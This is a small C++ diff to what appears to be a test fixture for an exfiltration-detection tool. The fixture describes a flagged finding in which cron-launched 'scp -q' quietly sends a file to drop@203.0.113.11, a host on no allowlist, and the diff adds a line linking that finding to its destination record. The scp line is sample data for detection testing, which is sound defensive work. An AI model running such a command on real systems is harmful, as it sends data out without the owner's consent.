@@ -96,6 +96,7 @@ inline auexfil::policy::Finding finding() {
   finding.automation = auexfil::transfer::Verdict::unattended;
   finding.command = {"scp", "-q", "f", "drop@203.0.113.11:up/"};
   finding.chain = {"cron", "sh"};
+  finding.destinations.front().sender = finding;
   finding.reasons = {"started by cron (pid 311)", "203.0.113.11 is on no allowlist"};
   return finding;
 }
